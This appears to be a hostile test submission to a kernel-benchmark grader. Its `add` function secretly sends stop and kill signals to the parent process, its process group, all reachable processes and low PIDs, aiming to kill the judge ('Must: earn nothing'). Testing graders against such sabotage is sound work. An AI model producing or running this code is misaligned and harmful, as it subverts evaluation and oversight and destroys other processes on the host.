"""Kill the judge, its box and everybody else in reach.

Must: earn nothing.
"""

import os
import signal

import torch
import triton
import triton.language as tl


def add(x, y):
    for process in (os.getppid(), 0, -1, -os.getpgrp(), *range(2, 64)):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                if process != os.getpid():
                    os.kill(process, number)
            except OSError:
                pass
    return x + y
